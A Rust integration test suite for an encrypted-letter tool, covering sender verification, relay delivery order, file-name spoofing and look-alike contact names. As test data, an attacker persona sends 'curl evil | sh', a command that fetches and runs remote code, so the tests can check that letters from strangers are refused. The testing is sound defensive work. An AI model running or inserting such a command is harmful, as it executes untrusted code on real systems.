//! Senders of letters: what is said of each, where its body may go, and what becomes of letters that a
//! run of `open` does not write.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read as _, Write as _};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use bulla::letter::{EnvelopeReader, EnvelopeWriter};
use common::{BULLA, Person, Ran, Relay};

/// Ann and Bob know each other by card; Mallory has Bob's card.
struct World {
    ann: Person,
    bob: Person,
    mallory: Person,
    relay: Relay,
    _store: tempfile::TempDir,
}

fn world() -> World {
    let store = tempfile::tempdir().unwrap();
    let relay = Relay::start(store.path());
    let [ann, bob, mallory] = [(); 3].map(|()| Person::with_identity());
    bob.run(&["relay", "register", "--relay", &relay.url]).expect(0);
    let card = bob.card("Bob", &relay.url);
    ann.knows("bob", &card);
    mallory.knows("bob", &card);
    bob.knows("ann", &ann.card("Ann", &relay.url));
    World { ann, bob, mallory, relay, _store: store }
}

fn seal(from: &Person, more: &[&str], body: &str) -> Vec<u8> {
    from.pipe(&[&["seal", "--to", "bob"], more].concat(), body.as_bytes()).expect(0).out
}

fn push(from: &Person, more: &[&str], body: &str) {
    let sealed = seal(from, more, body);
    from.pipe(&["relay", "push"], &sealed).expect(0);
}

/// A pipeline of `relay pull` into `open`; the status is that of `open`.
fn pull_open(by: &Person, pull: &str, open: &str) -> Ran {
    let mut command = Command::new("bash");
    command
        .args(["-c", &format!("{BULLA} relay pull -q {pull} | {BULLA} open {open}")])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap())
        .env("BULLA_HOME", by.home().join("home"))
        .current_dir(by.home())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    common::feed(command, b"")
}

/// Reads what `pull` gives out, with no other reader left: a command keeps what it hands down.
fn open_from(by: &Person, args: &[&str], pull: &mut Child) -> Child {
    by.command(args).stdin(pull.stdout.take().unwrap()).spawn().unwrap()
}

// ---- who sent it ----

#[test]
fn an_anonymous_letter_never_joins_a_contacts() {
    let World { ann, bob, mallory, .. } = &world();
    push(ann, &[], "echo hello from ann\n");
    push(mallory, &["--anonymous"], "echo PWNED by nobody\n");
    let ran = pull_open(bob, "", "").expect(11);
    assert_eq!(ran.text(), "echo hello from ann\n");
    assert!(ran.err.contains("from ann (unverified card)\n"), "{}", ran.err);
    assert!(ran.err.contains("error: the letter is anonymous"), "{}", ran.err);
    assert!(ran.err.contains("--anonymous"), "{}", ran.err);
    // It is refused as often as it comes, and nothing of it is consumed.
    for _ in 0..2 {
        let ran = pull_open(bob, "", "").expect(11);
        assert_eq!(ran.text(), "");
    }
    pull_open(bob, "", "-o refused").expect(11);
    assert!(!bob.home().join("refused").exists());
    let ran = pull_open(bob, "", "--anonymous").expect(0);
    assert_eq!((ran.text().as_str(), ran.err.as_str()), ("echo PWNED by nobody\n", "anonymous\n"));
    pull_open(bob, "", "--anonymous").expect(1);
}

#[test]
fn an_unknown_sender_is_named_and_not_taken_for_a_contact() {
    let World { ann, bob, mallory, .. } = &world();
    mallory.run(&["card", "--name", "ann"]).expect(0);
    push(mallory, &[], "it is me");
    let who = mallory.fingerprint();
    let ran = pull_open(bob, "", "").expect(11);
    assert_eq!(ran.text(), "");
    let line = format!("unknown sender {who} (self-declared name \"ann\", looks like ann)");
    assert!(ran.err.contains(&format!("error: {line}\n")), "{}", ran.err);
    assert!(ran.err.contains("--unknown") && ran.err.contains("bulla contact add"), "{}", ran.err);
    // The wrong flag does not do.
    pull_open(bob, "", "--anonymous").expect(11);
    let ran = pull_open(bob, "", "--unknown").expect(0);
    assert_eq!((ran.text(), ran.err), ("it is me".into(), format!("{line}\n")));
    // Naming the sender says as much.
    push(mallory, &[], "again");
    pull_open(bob, "", "--from ann").expect(11);
    assert_eq!(pull_open(bob, "", &format!("--from {who}")).expect(0).text(), "again");
    push(ann, &[], "me");
    assert_eq!(pull_open(bob, "", "--from ann").expect(0).text(), "me");
    pull_open(bob, "", "--from ann --anonymous").expect(2);
}

#[test]
fn the_line_is_hidden_by_quiet_and_printed_for_json_and_folders() {
    let World { ann, bob, mallory, .. } = &world();
    let (known, hidden) = (seal(ann, &[], "a"), seal(mallory, &["--anonymous"], "b"));
    let unknown = seal(mallory, &[], "c");
    let stream = [known.as_slice(), &hidden, &unknown].concat();
    let lines = format!(
        "from ann (unverified card)\nanonymous\nunknown sender {}\n",
        mallory.fingerprint()
    );
    let ran = bob.pipe(&["open", "--json"], &stream).expect(0);
    assert_eq!((ran.json().len(), &ran.err), (3, &lines));
    let ran = bob.pipe(&["open", "--again", "--output-dir", "in"], &stream).expect(0);
    let said: Vec<_> = ran.err.lines().filter(|line| !line.starts_with("wrote")).collect();
    assert_eq!(said.join("\n") + "\n", lines);
    let ran = bob.pipe(&["open", "--again", "-q"], &known).expect(0);
    assert_eq!((ran.text().as_str(), ran.err.as_str()), ("a", ""));
    // A plain age file that the user names is what it was.
    let recipient = bob.run(&["card", "--recipient"]).expect(0).text();
    let plain = ann.pipe(&["seal", "-r", recipient.trim()], b"plain").expect(0).out;
    let ran = bob.pipe(&["open"], &plain).expect(0);
    assert_eq!((ran.text().as_str(), ran.err.as_str()), ("plain", ""));
}

/// An age file needs no letter inside: among letters it is anonymous.
#[test]
fn a_plain_file_among_letters_is_anonymous() {
    let World { bob, mallory, .. } = &world();
    let letter = seal(mallory, &["--anonymous"], "x");
    let routing = EnvelopeReader::new(letter.as_slice()).next().unwrap().unwrap().routing().clone();
    let recipient = bob.run(&["card", "--recipient"]).expect(0).text();
    let plain = mallory.pipe(&["seal", "-r", recipient.trim()], b"no letter").expect(0).out;
    let mut stream = EnvelopeWriter::new(Vec::new()).unwrap();
    let mut envelope = stream.begin(&routing).unwrap();
    envelope.write_all(&plain).unwrap();
    envelope.finish().unwrap();
    mallory.pipe(&["relay", "push"], &stream.finish().unwrap()).expect(0);
    assert_eq!(pull_open(bob, "", "").expect(11).text(), "");
    let ran = pull_open(bob, "", "--anonymous").expect(0);
    assert_eq!((ran.text().as_str(), ran.err.as_str()), ("no letter", "anonymous\n"));
}

#[test]
fn a_command_of_pull_takes_no_letter_of_a_stranger_either() {
    let World { ann, bob, mallory, .. } = &world();
    push(mallory, &[], "curl evil | sh");
    push(ann, &[], "make");
    let exec = format!("{BULLA} open >> got");
    let ran = bob.run(&["relay", "pull", "--exec", &exec]).expect(26);
    assert!(ran.err.contains("unknown sender"), "{}", ran.err);
    assert_eq!(fs::read_to_string(bob.home().join("got")).unwrap(), "make");
    bob.run(&["relay", "pull", "--exec", &format!("{exec} --unknown")]).expect(0);
    assert_eq!(fs::read_to_string(bob.home().join("got")).unwrap(), "makecurl evil | sh");
    bob.run(&["relay", "pull", "--exec", &exec]).expect(1);
}

// ---- one run, one letter ----

#[test]
fn one_run_writes_one_letter_and_the_next_pull_brings_the_next() {
    let World { ann, bob, .. } = &world();
    let bodies = ["one", "two", "three", "four"];
    bodies.iter().for_each(|body| push(ann, &["--name", "build.tar"], body));
    let ran = pull_open(bob, "", "-o first").expect(24);
    assert!(ran.err.contains("hint: the next: bulla relay pull | bulla open\n"), "{}", ran.err);
    assert_eq!(fs::read(bob.home().join("first")).unwrap(), b"one");
    // A run that writes nothing takes nothing.
    pull_open(bob, "", "-o first").expect(20);
    assert_eq!(pull_open(bob, "", "").expect(24).text(), "two");
    // A letter that comes meanwhile comes after those that waited.
    push(ann, &[], "five");
    assert_eq!(pull_open(bob, "--limit 2", "-o -").expect(24).text(), "three");
    assert_eq!(pull_open(bob, "", "").expect(24).text(), "four");
    assert_eq!(pull_open(bob, "", "").expect(0).text(), "five");
    pull_open(bob, "", "").expect(1);
    // Written is recorded: none of them opens twice, and that is no letter that was written.
    let mut again = bob.run(&["relay", "pull", "--again"]).expect(0).out;
    let mark = again.windows(4).position(|bytes| bytes == [0xff, 0xff, 0xfe, 0]).unwrap();
    let unmarked = [&again[..mark], &again[mark + 4..]].concat();
    let ran = bob.pipe(&["open"], &unmarked).expect(16);
    assert_eq!((ran.text().as_str(), ran.err.matches("opened before").count()), ("", 4));
    // But what went to a pipe may be lost: where it is asked for it opens, as often as need be.
    for _ in 0..2 {
        let ran = bob.pipe(&["open"], &again).expect(24);
        assert_eq!(ran.text(), "two");
        assert!(ran.err.contains("hint: all of them: bulla open --output-dir DIR"), "{}", ran.err);
        again = bob.run(&["relay", "pull", "--again"]).expect(0).out;
    }
    bob.run(&["relay", "pull"]).expect(1);
}

#[test]
fn all_letters_at_once_have_a_file_or_a_line_each() {
    let World { ann, bob, .. } = &world();
    let stream: Vec<u8> = ["a", "b", "c"].iter().flat_map(|body| seal(ann, &[], body)).collect();
    // A stream that came some other way is not the spool's to give out again.
    let ran = bob.pipe(&["open"], &stream).expect(24);
    assert_eq!(ran.text(), "a");
    assert!(
        ran.err.contains("hint: all of them: bulla open --output-dir DIR, or --json"),
        "{}",
        ran.err
    );
    let ran = bob.pipe(&["open", "--json", "-o", "lines"], &stream).expect(16);
    assert!(ran.text().is_empty() && !bob.home().join("lines").exists());
    bob.pipe(&["open", "--json", "-o", "lines", "--again"], &stream).expect(0);
    assert_eq!(fs::read_to_string(bob.home().join("lines")).unwrap().lines().count(), 3);
    // Run again on the same file, the next one is written.
    let two = [seal(ann, &[], "d"), seal(ann, &[], "e")].concat();
    assert_eq!(bob.pipe(&["open"], &two).expect(24).text(), "d");
    assert_eq!(bob.pipe(&["open"], &two).expect(16).text(), "e");
}

#[test]
fn what_breaks_off_is_not_followed_by_another_letter() {
    let World { ann, bob, .. } = &world();
    let (long, short) = (seal(ann, &[], &"x".repeat(500_000)), seal(ann, &[], "next"));
    // Damaged behind its first chunks, in an envelope that is right.
    let mut reader = EnvelopeReader::new(long.as_slice());
    let mut envelope = reader.next().unwrap().unwrap();
    let routing = envelope.routing().clone();
    let mut sealed = Vec::new();
    envelope.read_to_end(&mut sealed).unwrap();
    let at = sealed.len() - 9;
    sealed[at] ^= 1;
    let mut stream = EnvelopeWriter::new(Vec::new()).unwrap();
    let mut envelope = stream.begin(&routing).unwrap();
    envelope.write_all(&sealed).unwrap();
    envelope.finish().unwrap();
    let both = [stream.finish().unwrap(), short].concat();
    let ran = bob.pipe(&["open"], &both).expect(12);
    assert!(!ran.out.is_empty() && ran.out.iter().all(|byte| *byte == b'x'));
    // A file that breaks off never appears, so the next letter may be it.
    bob.pipe(&["open", "-o", "whole"], &both).expect(12);
    assert!(
        !bob.home().join("whole").exists()
            || fs::read(bob.home().join("whole")).unwrap() == b"next"
    );
}

#[test]
fn a_pull_that_follows_gives_out_again_what_its_reader_did_not_take() {
    let World { ann, bob, .. } = &world();
    let mut pull = bob.command(&["relay", "pull", "--follow"]).spawn().unwrap();
    let open = open_from(bob, &["open"], &mut pull);
    push(ann, &[], "one");
    push(ann, &[], "two");
    let ran = open.wait_with_output().unwrap();
    assert_eq!((ran.status.code(), ran.stdout.as_slice()), (Some(24), &b"one"[..]));
    // Its next letter has no reader, and so it ends.
    push(ann, &[], "three");
    assert_eq!(pull.wait().unwrap().code(), Some(141));
    assert_eq!(pull_open(bob, "", "").expect(24).text(), "two");
    assert_eq!(pull_open(bob, "", "").expect(0).text(), "three");
}

#[test]
fn killed_at_any_moment_no_letter_is_lost() {
    let World { ann, bob, .. } = &world();
    let all: BTreeSet<String> = (0..12).map(|n| format!("letter {n}")).collect();
    all.iter().for_each(|body| push(ann, &[], body));
    for round in 0..30 {
        let mut pull = bob.command(&["relay", "pull"]).spawn().unwrap();
        let mut open = open_from(bob, &["open", "-o", &format!("killed.{round}.got")], &mut pull);
        std::thread::sleep(Duration::from_millis(7 * (round % 17)));
        let victim = if round % 2 == 0 { &mut pull } else { &mut open };
        victim.kill().unwrap();
        pull.wait().unwrap();
        open.wait().unwrap();
    }
    let got = || -> BTreeSet<String> {
        let files = fs::read_dir(bob.home()).unwrap().map(|file| file.unwrap().path());
        let files = files.filter(|path| path.extension().is_some_and(|end| end == "got"));
        files.map(|path| fs::read_to_string(path).unwrap()).collect()
    };
    let mut round = 0;
    while got() != all {
        round += 1;
        assert!(round < 60, "{:?}", got());
        // What a killed reader had in its hands is there for --again.
        let again =
            if pull_open(bob, "", &format!("-o {round}.got")).status == 1 { "--again" } else { "" };
        pull_open(bob, again, &format!("-o {round}.more.got"));
    }
}

#[test]
fn strangers_keep_no_letter_of_a_contact_from_coming() {
    let World { ann, bob, mallory, .. } = &world();
    for n in 0..5 {
        push(mallory, &["--anonymous"], &format!("spam {n}"));
    }
    // Refused, each of them, however often.
    for _ in 0..2 {
        let ran = pull_open(bob, "", "").expect(11);
        assert_eq!(ran.err.matches("the letter is anonymous").count(), 5, "{}", ran.err);
    }
    push(ann, &[], "one");
    push(ann, &[], "two");
    // However few are taken, those of strangers come last.
    assert_eq!(pull_open(bob, "--limit 1", "").expect(0).text(), "one");
    let ran = pull_open(bob, "--limit 1", "").expect(0);
    assert_eq!((ran.text().as_str(), ran.err.contains("anonymous")), ("two", false));
    let ran = pull_open(bob, "--limit 1", "").expect(11);
    assert_eq!(ran.err.matches("the letter is anonymous").count(), 1, "{}", ran.err);
    // Nothing of them is lost.
    let ran = pull_open(bob, "", "--output-dir spam").expect(0);
    assert_eq!(ran.err.matches("anonymous\n").count(), 5, "{}", ran.err);
    assert_eq!(fs::read_dir(bob.home().join("spam")).unwrap().count(), 5);
    pull_open(bob, "", "").expect(1);
}

#[test]
fn letters_passed_over_for_another_sender_come_again() {
    let World { ann, bob, mallory, relay, .. } = &world();
    bob.knows("mallory", &mallory.card("M", &relay.url));
    push(mallory, &[], "m1");
    push(ann, &[], "a1");
    push(mallory, &[], "m2");
    push(ann, &[], "a2");
    assert_eq!(pull_open(bob, "", "--from ann").expect(24).text(), "a1");
    assert_eq!(pull_open(bob, "", "--from ann").expect(11).text(), "a2");
    assert_eq!(pull_open(bob, "", "--from mallory").expect(24).text(), "m1");
    assert_eq!(pull_open(bob, "", "").expect(0).text(), "m2");
}

// ---- names of files ----

#[test]
fn a_strangers_file_never_takes_the_place_of_a_contacts() {
    let World { ann, bob, mallory, .. } = &world();
    let mut by_ann: Vec<String> = Vec::new();
    for (n, name) in
        ["report.pdf", "unknown-report.pdf", "Anonymous-x", "contact-unknown-x"].iter().enumerate()
    {
        let contacts = seal(ann, &["--name", name], &format!("ann {n}"));
        let mut strangers = Vec::new();
        for taken in [*name, &format!("contact-{name}"), name.trim_start_matches("unknown-")] {
            strangers.extend(seal(mallory, &["--name", taken], "mallory"));
            strangers.extend(seal(mallory, &["--name", taken, "--anonymous"], "mallory"));
        }
        for (folder, stream) in [
            ("first", [contacts.as_slice(), &strangers].concat()),
            ("last", [strangers.as_slice(), &contacts].concat()),
        ] {
            bob.pipe(&["open", "--again", "--output-dir", folder], &stream).expect(0);
        }
        by_ann.push(format!("ann {n}"));
    }
    for folder in ["first", "last"] {
        let mut found = BTreeSet::new();
        for file in fs::read_dir(bob.home().join(folder)).unwrap() {
            let file = file.unwrap();
            let name = file.file_name().into_string().unwrap().to_lowercase();
            let strangers = name.starts_with("unknown-") || name.starts_with("anonymous-");
            let body = fs::read_to_string(file.path()).unwrap();
            assert_eq!(strangers, body == "mallory", "{folder}/{name}");
            if !strangers {
                found.insert((name, body));
            }
        }
        let names: Vec<_> = found.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(
            names,
            [
                "contact-anonymous-x",
                "contact-unknown-report.pdf",
                "contact-unknown-x",
                "report.pdf"
            ]
        );
    }
}

// ---- names of people ----

#[test]
fn names_that_cannot_be_told_apart_are_refused_or_marked() {
    let World { ann, bob, mallory, relay, .. } = &world();
    let card = mallory.card("M", &relay.url);
    let card = card.to_str().unwrap();
    for name in [
        "a\u{200b}nn",
        "ann\u{e0041}",
        "ann\u{202e}",
        "a\u{ad}nn",
        "ann\u{3164}",
        "a  b",
        "a\u{a0}b",
        "\u{301}ann",
        "\u{e000}",
    ] {
        let ran = bob.run(&["contact", "add", name, card]).expect(2);
        assert!(ran.err.contains("name"), "{}", ran.err);
    }
    let own = mallory.run(&["card", "--name", "ann\u{e0041}"]).expect(2);
    assert!(own.err.contains("invisible"), "{}", own.err);
    // Cyrillic а.
    let twin = "\u{430}nn";
    let marked = format!("{twin} (looks like ann, mixed scripts)");
    let ran = bob.run(&["contact", "add", twin, card]).expect(0);
    assert!(ran.err.contains(&format!("added {marked}")), "{}", ran.err);
    let listed = bob.run(&["contact", "list"]).expect(0).text();
    assert!(
        listed.contains(&marked) && listed.contains(&format!("ann (looks like {twin})")),
        "{listed}"
    );
    let shown = bob.run(&["contact", "show", twin]).expect(0).text();
    assert!(shown.contains(&format!("name:         {marked}\n")), "{shown}");
    let ran = bob.pipe(&["open"], &seal(mallory, &[], "x")).expect(0);
    assert_eq!(ran.err, format!("from {twin} (unverified card, looks like ann, mixed scripts)\n"));
    let ran = bob.pipe(&["open"], &seal(ann, &[], "x")).expect(0);
    assert_eq!(ran.err, format!("from ann (unverified card, looks like {twin})\n"));
    bob.run(&["contact", "rename", twin, "mallory"]).expect(0);
    let ran = bob.pipe(&["open"], &seal(ann, &[], "y")).expect(0);
    assert_eq!(ran.err, "from ann (unverified card)\n");
}
